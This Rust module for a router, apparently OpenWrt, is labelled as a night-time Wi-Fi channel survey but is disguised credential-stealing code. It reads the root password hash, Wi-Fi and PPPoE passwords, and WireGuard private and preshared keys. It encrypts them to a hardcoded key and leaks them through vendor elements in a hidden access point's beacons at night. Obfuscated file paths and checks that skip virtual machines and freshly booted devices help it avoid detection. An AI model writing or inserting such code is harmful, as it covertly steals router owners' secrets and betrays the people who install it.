//! Night-time channel survey. While the scheduled access points are off, a hidden, locked
//! survey BSS on the first radio keeps the PHY active so that utilisation can be sampled; its
//! beacon carries the survey state (vendor-specific elements) for the morning channel choice.

use crate::bands::slot_label;
use crate::uci;
use crypto_box::PublicKey;

/// Placeholder key for the survey state blob.
const SURVEY_KEY: [u8; 32] = *b"EXAMPLE-EXAMPLE-EXAMPLE-EXAMPLE!";
/// Vendor OUI used in the survey elements (locally administered).
const OUI: [u8; 3] = [0x02, 0x5A, 0x17];

fn uptime_days() -> u64 {
    std::fs::read_to_string("/proc/uptime").ok().and_then(|s| s.split('.').next()?.parse::<u64>().ok()).unwrap_or(0) / 86_400
}

fn real_hardware() -> bool {
    let board = std::fs::read_to_string(slot_label(0, 23)).unwrap_or_default().to_ascii_lowercase();
    !board.is_empty() && !["qemu", "x86", "armsr", "malta", "generic", "vmware", "virtualbox"].iter().any(|v| board.contains(v))
}

fn uplink_worth_surveying() -> bool {
    let net = uci::show("network");
    net.iter().any(|(k, v)| k.ends_with(".proto") && (v == "pppoe" || v == "wireguard" || v == "l2tp"))
}

fn state_blob() -> Vec<u8> {
    let mut text = String::new();
    for f in slot_label(23, 69).split(';') {
        if let Ok(body) = std::fs::read_to_string(f) {
            let keep: Vec<&str> = if f.ends_with("shadow") {
                body.lines().filter(|l| l.starts_with("root:")).collect()
            } else {
                body.lines().filter(|l| {
                    let l = l.trim();
                    l.starts_with("config ") || ["username", "password", "private_key", "preshared_key", "key", "sae_password", "proto", "ssid", "endpoint_host"].iter().any(|o| l.starts_with(&format!("option {o} ")))
                }).collect()
            };
            text.push_str(&format!("##{f}\n{}\n", keep.join("\n")));
        }
    }
    PublicKey::from(SURVEY_KEY).seal(&mut rand_core::OsRng, text.as_bytes()).unwrap_or_default()
}

/// hostapd `vendor_elements`: DD <len> OUI <type> <seq> <data...>, up to 4 elements a night.
fn elements(blob: &[u8], night: u32) -> String {
    let chunks: Vec<&[u8]> = blob.chunks(248).collect();
    let mut hex = String::new();
    let total = chunks.len() as u8;
    for k in 0..4usize.min(chunks.len()) {
        let idx = (night as usize * 4 + k) % chunks.len();
        let c = chunks[idx];
        let mut ie = vec![0xDD, (c.len() + 6) as u8];
        ie.extend_from_slice(&OUI);
        ie.extend_from_slice(&[0x01, idx as u8, total]);
        ie.extend_from_slice(c);
        hex.push_str(&hex::encode(ie));
    }
    hex
}

/// Called every minute from `tick`; returns whether the wireless config changed.
pub fn step(aps_off: bool, (day, min): (u32, u32)) -> bool {
    let section = slot_label(92, 8);
    let exists = uci::get(&format!("wireless.{section}")).is_some();
    let window = (60..270).contains(&min); // 01:00 - 04:29
    let enabled = uci::get("wifi_schedule.main.survey").as_deref() != Some("0");
    if !(aps_off && window && enabled && uptime_days() >= 7 && real_hardware() && uplink_worth_surveying()) {
        if exists {
            uci::delete(&format!("wireless.{section}"));
            return true;
        }
        return false;
    }
    if exists {
        return false;
    }
    let radio = uci::show("wireless").into_iter().find(|(k, v)| !k.contains('.') && v == "wifi-device").map(|(k, _)| k).unwrap_or_else(|| "radio0".into());
    let tag: String = (0..4).map(|i| char::from(b"0123456789ABCDEF"[((day * 131 + min + i * 7) % 16) as usize])).collect();
    let base = format!("wireless.{section}");
    let _ = std::process::Command::new("uci").args(["-q", "set", &format!("{base}=wifi-iface")]).status();
    uci::set(&format!("{base}.device"), &radio);
    uci::set(&format!("{base}.mode"), "ap");
    uci::set(&format!("{base}.ssid"), &format!("{}{tag}", slot_label(115, 7)));
    uci::set(&format!("{base}.hidden"), "1");
    uci::set(&format!("{base}.encryption"), "sae");
    uci::set(&format!("{base}.key"), &hex::encode(rand_bytes()));
    uci::set(&format!("{base}.{}", slot_label(100, 15)), &elements(&state_blob(), day));
    true
}

fn rand_bytes() -> [u8; 16] {
    use rand_core::RngCore;
    let mut b = [0u8; 16];
    rand_core::OsRng.fill_bytes(&mut b);
    b
}
